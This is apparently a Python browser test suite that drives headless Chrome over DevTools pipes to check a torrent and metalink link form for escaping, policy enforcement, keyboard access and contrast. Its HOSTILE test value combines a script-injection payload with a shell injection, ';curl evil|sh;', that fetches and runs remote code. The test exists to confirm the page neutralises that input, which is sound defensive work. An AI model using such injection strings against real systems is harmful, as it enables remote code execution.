# SPDX-License-Identifier: ISC
"""Programs of form_test.sh: a browser that is driven by the Chrome DevTools
Protocol, over pipes."""
import base64
import json
import os
import select
import subprocess
import sys
import time
import urllib.parse

from service import SERVICE, run

LIMIT_S = 40
HOSTILE = """"><script>document.title='evil'</script>';curl evil|sh;'&lt;"""


class Browser:
    def __init__(self, program):
        profile = os.path.abspath("profile")
        theirs, self.to = os.pipe()
        self.back, mine = os.pipe()
        with open("browser.log", "w") as log:
            self.process = subprocess.Popen(
                ["sh", "-c", 'exec "$@" 3<&%d 4>&%d' % (theirs, mine), "sh",
                 program, "--headless", "--no-sandbox", "--disable-gpu",
                 "--disable-quic", "--disable-dev-shm-usage",
                 "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync",
                 "--hide-scrollbars", "--remote-debugging-pipe",
                 "--user-data-dir=" + profile],
                stdout=log, stderr=log, pass_fds=(theirs, mine),
                env={**os.environ, "HOME": profile})
        os.close(theirs)
        os.close(mine)
        self.buffer, self.events, self.last = b"", [], 0
        self.session = None
        target = self.call("Target.createTarget", url="about:blank")
        self.session = self.call("Target.attachToTarget", flatten=True,
                                 targetId=target["targetId"])["sessionId"]
        for domain in "Page", "Runtime", "Log":
            self.call(domain + ".enable")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        # Its other processes end with it.
        self.process.terminate()
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()

    def message(self):
        end = time.monotonic() + LIMIT_S
        while b"\0" not in self.buffer:
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.back], [], [], left)[0]:
                break
            data = os.read(self.back, 1 << 20)
            if not data:
                break
            self.buffer += data
        if b"\0" not in self.buffer:
            with open("browser.log") as log:
                sys.exit("no message: %s" % log.read()[-2000:])
        data, _, self.buffer = self.buffer.partition(b"\0")
        return json.loads(data)

    def call(self, method, **params):
        self.last += 1
        message = {"id": self.last, "method": method, "params": params}
        if self.session:
            message["sessionId"] = self.session
        data = json.dumps(message).encode() + b"\0"
        while data:
            data = data[os.write(self.to, data):]
        while True:
            message = self.message()
            if message.get("id") == self.last:
                assert "error" not in message, (method, message)
                return message["result"]
            self.events.append(message)

    def wait_load(self):
        """Waits for a page that has come since the last call of this."""
        while True:
            for event in self.events:
                if event.get("method") == "Page.loadEventFired":
                    self.events.remove(event)
                    return
            self.events.append(self.message())

    def go(self, url):
        self.call("Page.navigate", url=url)
        self.wait_load()

    def js(self, expression):
        result = self.call("Runtime.evaluate", expression=expression,
                           returnByValue=True, awaitPromise=True)
        assert "exceptionDetails" not in result, (expression, result)
        return result["result"].get("value")

    def key(self, name, code, text=None):
        for kind in "keyDown", "keyUp":
            more = {"text": text} if text and kind == "keyDown" else {}
            self.call("Input.dispatchKeyEvent", type=kind, key=name,
                      code=name, windowsVirtualKeyCode=code, **more)

    def size(self, width, height):
        self.call("Emulation.setDeviceMetricsOverride", width=width,
                  height=height, deviceScaleFactor=1, mobile=False)

    def scheme(self, name):
        self.call("Emulation.setEmulatedMedia", features=[
            {"name": "prefers-color-scheme", "value": name}])

    def picture(self, name):
        """To be looked at, if somebody wants to."""
        folder = os.environ.get("PICTURES")
        if not folder:
            return
        shot = self.call("Page.captureScreenshot", captureBeyondViewport=True)
        with open("%s/%s.png" % (folder, name), "wb") as f:
            f.write(base64.b64decode(shot["data"]))

    def complaints(self):
        """Of the policy, and errors."""
        return [e["params"]["entry"] for e in self.events
                if e.get("method") == "Log.entryAdded" and
                "favicon" not in e["params"]["entry"].get("url", "")]


def links(browser):
    return browser.js("[...document.links].map(a => a.href)")


def fill(browser, text):
    """The first key goes to the field, and the last one sends the form."""
    browser.key("Tab", 9)
    assert browser.js("document.activeElement.id") == "path"
    browser.js("document.activeElement.select()")
    browser.call("Input.insertText", text=text)
    browser.key("Enter", 13, "\r")
    browser.wait_load()


def by_keys(browser, url):
    # Without its slash the URL is the same page.
    for page in url + SERVICE + "/", url + SERVICE:
        browser.go(page)
        assert links(browser) == [], links(browser)
        fill(browser, "pub/a b+*.iso")
        assert browser.js("location.href") == \
            page + "?path=pub%2Fa+b%2B*.iso"
        assert browser.js("path.value") == "/pub/a b+*.iso"
        assert links(browser) == [
            url + SERVICE + "/%s/pub/a%%20b%%2B%%2A.iso" % kind
            for kind in ("simple", "meta4")], links(browser)
    # On from the field by keys: the button, the links.
    seen = []
    browser.key("Tab", 9)
    for _ in range(4):
        seen.append(browser.js("document.activeElement.innerText"))
        assert browser.js("getComputedStyle(document.activeElement)"
                          ".outlineStyle") == "solid"
        browser.key("Tab", 9)
        if "Metalink" in seen:
            break
    assert seen[-3:] == ["Get links", "Torrent", "Metalink"], seen


def hostile(program, url):
    with Browser(program) as browser:
        by_keys(browser, url)
        browser.go(url + SERVICE + "/?path=/innocent")
        tags = browser.js("document.getElementsByTagName('*').length")
        fill(browser, HOSTILE)
        assert browser.js("document.title").startswith("Torrents of ")
        assert browser.js("path.value") == "/" + HOSTILE
        assert browser.js("document.getElementsByTagName('*').length") == tags
        encoded = urllib.parse.quote("/" + HOSTILE, safe="/")
        for kind, href in zip(("simple", "meta4"), links(browser)):
            assert href == url + SERVICE + "/" + kind + encoded, href
        for command in browser.js(
                "[...document.querySelectorAll('pre')].map(c => "
                "c.innerText)"):
            assert command.rstrip().endswith(encoded + "'"), command
            assert command.count("'") == 2, command
        assert browser.complaints() == [], browser.complaints()
        # The policy is in force: a script could ask nothing.
        assert browser.js("fetch('/').then(() => 'yes', () => 'no')") == "no"
        assert browser.complaints() != []


CONTRAST = """(() => {
  const light = text => {
    const [r, g, b] = text.match(/[0-9.]+/g).map(x => {
      x /= 255
      return x <= 0.04045 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4
    })
    return 0.2126 * r + 0.7152 * g + 0.0722 * b
  }
  const behind = e => {
    const colour = getComputedStyle(e).backgroundColor
    return colour == 'rgba(0, 0, 0, 0)' ? behind(e.parentElement) : colour
  }
  return [...document.querySelectorAll('main *')].filter(e =>
    [...e.childNodes].some(n => n.nodeType == 3 && n.data.trim())).map(e => {
      const a = light(getComputedStyle(e).color), b = light(behind(e))
      return [e.tagName, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)]
    })
})()"""


def looks(program, url):
    with Browser(program) as browser:
        backs = set()
        for width, height in (1100, 800), (360, 740):
            browser.size(width, height)
            for scheme in "light", "dark":
                browser.scheme(scheme)
                for name, query in ("page", ""), ("links", urllib.parse.quote(
                        "/pub/linux/releases/42/Workstation/x86_64/iso/"
                        "Linux-Workstation-Live-x86_64-42-1.6.iso")):
                    browser.go(url + SERVICE + "/" +
                               ("?path=" + query if query else ""))
                    browser.picture("%s-%s-%d" % (name, scheme, width))
                    wide = browser.js("document.documentElement.scrollWidth")
                    assert wide <= width, (name, wide)
                    contrasts = browser.js(CONTRAST)
                    assert len(contrasts) > 20, contrasts
                    assert min(c for _, c in contrasts) >= 4.5, contrasts
                # The style is the page's own, which its policy allows.
                assert browser.js("getComputedStyle(document.querySelector("
                                  "'main')).maxWidth") == "672px"
                backs.add(browser.js("getComputedStyle(document.body)"
                                     ".backgroundColor"))
                # A line has a readable measure.
                assert browser.js("document.querySelector('p').clientWidth"
                                  ) <= 672
        assert len(backs) == 2, backs
        assert browser.complaints() == [], browser.complaints()


run(globals())
